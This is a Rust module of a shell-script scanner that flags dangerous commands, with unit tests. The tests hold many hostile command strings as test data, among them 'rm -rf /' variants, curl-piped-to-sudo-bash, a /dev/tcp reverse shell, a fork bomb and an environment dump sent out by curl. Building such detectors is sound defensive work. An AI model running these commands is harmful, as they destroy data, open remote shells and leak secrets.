//! Finds harmful shell commands: those that run downloaded code, delete files, open remote access, or send files away.
//!
//! Scripts are parsed with their quotes, groups, functions, here-documents and substitutions, so `echo "rm -rf /"` is text
//! and `'rm' -rf /` is a command. Variables stand for the constants that the script assigns to them, and what `bash -c`,
//! `eval`, a pipe, a here-document or a file gives to a shell is scanned as a script too. A command whose name the script
//! computes is a `COMPUTED_COMMAND`, but a variable of the environment (`$CC`) is not. What cannot be read is a finding:
//! `SYNTAX_ERROR` and `TOO_COMPLEX`. Not detected: code in another language, and what runs on another machine. Policies
//! call it by the function `semgrep`, and [`python`](super::python) for the commands in notebooks.
//!
//! The parser is our own since that of `brush-parser` 0.4.0 panics on here-documents in `${…}`, takes time exponential in
//! the number of open brackets (22 of `case a in a) `, in 290 bytes, take over ten seconds, which a limit of nesting cannot
//! mend, since it also grows with the length) and reads nothing of a script with one error.

mod compound;
mod effective_command;
mod expansion;
mod flow;
mod function;
mod parser;
mod scanner;
mod syntax;
mod words;

use std::ops::Range;

use super::MAX_FINDINGS;
use flow::{Flow, PlacedScript, ScriptLocation};
use scanner::CommandScanner;

/// The severity of a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum IssueSeverity {
    /// Rarely needed, and often a step of an attack.
    Warning,
    /// Destroys data, opens access or sends data.
    Error,
}

impl IssueSeverity {
    /// Returns `warning` or `error`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Warning => "warning",
            Self::Error => "error",
        }
    }
}

/// An unsafe command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsafeCommand {
    /// The effect, such as `PIPE_TO_SHELL`.
    pub kind: &'static str,
    /// The bytes of the command or pipeline.
    pub span: Range<usize>,
    /// The severity.
    pub severity: IssueSeverity,
}

/// Maximum length of a script that is read to its end, in bytes.
pub const MAX_BYTES: usize = 1 << 20;

/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. Of a script that is
/// longer than [`MAX_BYTES`], the start is read, and the whole is `TOO_COMPLEX`.
///
/// ```
/// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
/// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
/// ```
pub fn find(text: &str) -> Vec<UnsafeCommand> {
    let mut scanner = CommandScanner::new(text.len());
    let start = text.get(..text.floor_char_boundary(MAX_BYTES)).unwrap_or_default();
    let is_whole = start.len() == text.len();
    let script = PlacedScript { text: start.to_owned(), location: ScriptLocation::Whole, is_exact: is_whole };
    scanner.scan_script(&script, &Flow::default());
    if scanner.is_incomplete() || !is_whole {
        scanner.report("TOO_COMPLEX", 0..text.len(), IssueSeverity::Error);
    }
    // The fork bomb defines a function named `:`, which calls itself.
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed.contains(":(){:|:&};:") {
        // An estimate: the white space is lost, and with it the exact position.
        let start = text.find(':').unwrap_or(0);
        scanner.report("FORK_BOMB", start..text.len(), IssueSeverity::Error);
    }
    let mut issues = scanner.issues;
    issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
    issues.truncate(MAX_FINDINGS);
    issues
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_unsafe() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> =
                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
            assert_eq!(found, expected, "{text}");
        };
        check("ls; curl x | sudo bash -s -- -y", &[("PIPE_TO_SHELL", "curl x | sudo bash -s -- -y")]);
        check("bash -c \"$(curl x)\"", &[("PIPE_TO_SHELL", "bash -c \"$(curl x)\"")]);
        check("curl x > i.sh && bash i.sh", &[("PIPE_TO_SHELL", "bash i.sh")]);
        check("echo x | base64 -d | sh", &[("DECODE_TO_SHELL", "echo x | base64 -d | sh")]);
        check("a $(rm -rf /) b", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash -c 'rm -rf ~'", &[("REMOVE_ALL", "'rm -rf ~'")]);
        check(
            "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
            &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
        );
        for wrapped in [
            "sudo --user root rm -rf /",
            "sudo --user=root --chdir /tmp rm -rf /",
            "timeout --signal KILL 5 rm -rf /",
            "stdbuf -o L rm -rf /",
            "env --unset HOME rm -rf /",
        ] {
            check(wrapped, &[("REMOVE_ALL", wrapped)]);
        }
        check("eval $x", &[("EVAL", "eval $x")]);
        check(
            "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
            &[("REVERSE_SHELL", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1")],
        );
        check("echo 'rm -rf /' # eval $x", &[]);
        check("rm -rf target", &[]);
        check(":(){ :|:& };:", &[("FORK_BOMB", ":(){ :|:& };:")]);
    }

    #[test]
    fn what_flows_into_shells() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> =
                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
            assert_eq!(found, expected, "{text}");
        };
        // Here-documents and here-strings. Places in a document are those of the script.
        check("bash <<E\nls\nrm -rf /\nE\nls", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash <<-E\n\tx=1; rm -rf /\n\tE", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash <<E\nrm -rf $HOME\nE", &[("REMOVE_ALL", "rm -rf $HOME\n")]);
        check("cat <<E\nrm -rf /\nE", &[]);
        check("cat <<E\n$(rm -rf /)\nE", &[("REMOVE_ALL", "rm -rf /")]);
        check("cat <<'E'\n$(rm -rf /)\nE", &[]);
        check("cat <<A <<B | sh\nrm -rf /\nA\nrm -rf ~\nB", &[("REMOVE_ALL", "rm -rf ~\n")]);
        check("cat <<E | rev | sh\nx\nE", &[("DECODE_TO_SHELL", "cat <<E | rev | sh")]);
        check("sh <<< 'rm -rf /'", &[("REMOVE_ALL", "'rm -rf /'")]);
        check("while read l; do sh; done <<< 'rm -rf /'", &[("REMOVE_ALL", "'rm -rf /'")]);
        check("{ sh; } < <(curl x)", &[("PIPE_TO_SHELL", "curl x")]);
        // A pipe continues on the next line.
        check("curl x |\n# a\n sh", &[("PIPE_TO_SHELL", "curl x |\n# a\n sh")]);
        check("curl x\nsh", &[]);
        // Groups and functions.
        check("(curl x; :) | { ls; sh; }", &[("PIPE_TO_SHELL", "(curl x; :) | { ls; sh; }")]);
        check("f() { curl x; }; f | sh", &[("PIPE_TO_SHELL", "f | sh")]);
        check("f() { sh; }; curl x | f", &[("PIPE_TO_SHELL", "curl x | f")]);
        check("f() { rm -rf $1$2; }; f a; f / ''", &[("REMOVE_ALL", "rm -rf $1$2")]);
        check("f() { g; }; g() { rm -rf $x; }; x=a; f; x=/; f", &[("REMOVE_ALL", "rm -rf $x")]);
        check("f() { f; }; f", &[]);
        check("curl x > /dev/null; sh a /dev/null", &[]);
        check(
            "f() { bash -c \"$1\"; }; f \"$(curl x)\"; f ls",
            &[("PIPE_TO_SHELL", "bash -c \"$1\""), ("COMPUTED_COMMAND", "\"$1\"")],
        );
        check("f() { :; }; f \"$(curl x)\"; bash -c \"$1\"; bash -c \"$@\"", &[]);
        // Files.
        check("curl x -o i; chmod +x i; ./i", &[("PIPE_TO_SHELL", "./i")]);
        check("echo 'rm -rf /' | tee i; sh i", &[]);
        check("echo 'rm -rf /' > i; sh i", &[("REMOVE_ALL", "'rm -rf /'")]);
        check("cd /; (cd /tmp); rm -rf *", &[("REMOVE_ALL", "rm -rf *")]);
        check("(cd /); rm -rf *; cd /; cd a; rm -rf *", &[]);
        // Arguments.
        check("echo '/ x' | xargs rm -rf", &[("REMOVE_ALL", "xargs rm -rf")]);
        check(
            "find . -exec rm -rf / ';' -exec chmod 777 x +",
            &[
                ("REMOVE_ALL", "find . -exec rm -rf / ';' -exec chmod 777 x +"),
                ("REMOVE_ALL", "rm -rf /"),
                ("WORLD_WRITABLE", "chmod 777 x"),
            ],
        );
        check("x=$(cat a); curl $x", &[]);
        check("x=$(env); curl $x", &[("ENVIRONMENT_DUMP", "env"), ("UPLOAD", "curl $x")]);
    }

    #[test]
    fn variables() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> =
                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
            assert_eq!(found, expected, "{text}");
        };
        let removes = |text: &str, part: &str| check(text, &[("REMOVE_ALL", part)]);
        removes("x=rm; y=/; $x -rf \"$y\"", "$x -rf \"$y\"");
        removes("x='rm -rf /'; $x", "$x");
        removes("x=r; x+=m; $x -rf /", "$x -rf /");
        removes("x=ls; if a; then x=rm; fi; $x -rf /", "$x -rf /");
        removes("x=rm; x=ls; $x -rf /", "$x -rf /");
        removes("readonly x=/; rm -rf ${x}", "rm -rf ${x}");
        removes("rm -rf ${x:-/}", "rm -rf ${x:-/}");
        removes("for i in a /; do rm -rf $i; done", "rm -rf $i");
        removes("x=$(ls); x=/; rm -rf $x", "rm -rf $x");
        removes("bash -c \"rm -rf / $x\"", "\"rm -rf / $x\"");
        removes("x='rm -rf /'; bash -c \"$x\"", "\"$x\"");
        check("x='rm -rf /'; \"$x\"; echo $x", &[]);
        check("x=; rm -rf $x/a", &[]);
        check("x=; x=$1; rm -rf $x/", &[]);
        let computed = |text: &str, part: &str| check(text, &[("COMPUTED_COMMAND", part)]);
        computed("x=$(ls); $x a", "$x a");
        computed("$(ls) a", "$(ls) a");
        computed("sudo `ls` a", "sudo `ls` a");
        computed("$a$b", "$a$b");
        computed("${!a}", "${!a}");
        computed("read x; $x", "$x");
        computed("/bin/r? a", "/bin/r? a");
        check("$CC a; \"$@\"; $1; $DIR/bin/a; [ -f a ]; ${X:-ls}", &[]);
    }

    #[test]
    fn what_is_not_understood_is_reported() {
        let check = |text: &str, expected: &[&str]| {
            let kinds: Vec<_> = find(text).into_iter().map(|issue| issue.kind).collect();
            assert_eq!(kinds, expected, "{text}");
        };
        for text in [
            "echo 'a",
            "echo \"a",
            "echo $(a",
            "echo `a",
            "echo ${a",
            "cat <<E\na",
            "(a",
            "{ a",
            "if a; then b",
            "a)",
            "done",
            "case a in b) c",
            "a=(b",
            "[[ a",
            "bash -c 'echo \"'",
            "bash <<E\n(\nE",
            "echo $'a",
            "a >",
        ] {
            check(text, &["SYNTAX_ERROR"]);
        }
        // Not every shell understands it, but it is understood here.
        for text in [
            "for i in a; { b; }",
            "a 2>&1 | b |& c &> d",
            "echo $[1 + 2] $\"a\"",
            "case a in (b|c) d;; *) ;& esac",
            "",
            "#",
        ] {
            check(text, &[]);
        }
        for open in ["$(", "(", "{ ", "if ", "`a $(", "${a:-", "\"$(", "f() { ", "case a in a) "] {
            let kinds: Vec<_> = find(&open.repeat(5000)).into_iter().map(|issue| issue.kind).collect();
            assert!(kinds.contains(&"TOO_COMPLEX") || open.contains('`'), "{open}: {kinds:?}");
        }
        let mut nested = "ls".to_owned();
        for _ in 0..8 {
            nested = format!("eval {nested}");
        }
        assert!(find(&nested).iter().any(|issue| issue.kind == "TOO_COMPLEX"), "{nested}");
        let long = format!("rm -rf /\n{}", "é".repeat(MAX_BYTES / 2));
        check(&long, &["REMOVE_ALL", "TOO_COMPLEX"]);
        check(&format!("'{}'", "é".repeat(MAX_BYTES / 2 - 1)), &[]);
        // Expansions that would double again and again.
        let doubling = format!("x=aaaaaaaaaaaaaaaa;{}", "x=$x$x;".repeat(1000));
        let kinds: Vec<_> = find(&doubling).into_iter().map(|issue| issue.kind).collect();
        assert_eq!(kinds, ["TOO_COMPLEX"]);
        let calls = "f() { g $1a; g $1b; }; g() { h $1a; h $1b; }; h() { f $1a; f $1b; };".to_owned()
            + &"f a; f b; ".repeat(2000);
        let started = find(&calls);
        assert!(started.len() <= 1, "{started:?}");
    }

    /// The deepest scripts that are followed, on a small stack, in an unoptimised build.
    #[test]
    fn deep_scripts_overflow_nothing() {
        let run = || {
            let wrap = |text: &str, open: &str, close: &str, n: usize| {
                format!("{}{text}{}", open.repeat(n), close.repeat(n))
            };
            for (open, close) in [
                ("$(", ")"),
                ("(", ")"),
                ("{ ", ";}"),
                ("if ", ";then a;fi"),
                ("f() { ", ";}; f"),
                ("`a $(", ")`"),
                ("${a:-", "}"),
                ("a=(", ")"),
                ("\"$(", ")\""),
                ("[[ $(", ") ]]"),
                ("<(", ")"),
                ("case a in a) ", ";;esac"),
                ("$(( $(", ") ))"),
            ] {
                for n in [15, 31, 32, 33, 100] {
                    let inner = wrap("ls", open, close, n);
                    find(&inner);
                    let mut script = inner.clone();
                    for _ in 0..6 {
                        script = format!("cat <<'E{}' | sh\n{script}\nE{0}\n{inner}", script.len());
                    }
                    find(&script);
                }
            }
        };
        std::thread::Builder::new().stack_size(1 << 20).spawn(run).unwrap().join().unwrap();
    }

    #[test]
    fn depth_is_bounded() {
        let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
        let kinds: Vec<_> = find(&deep).into_iter().map(|issue| issue.kind).collect();
        assert!(kinds.contains(&"TOO_COMPLEX"), "{kinds:?}");
    }
}
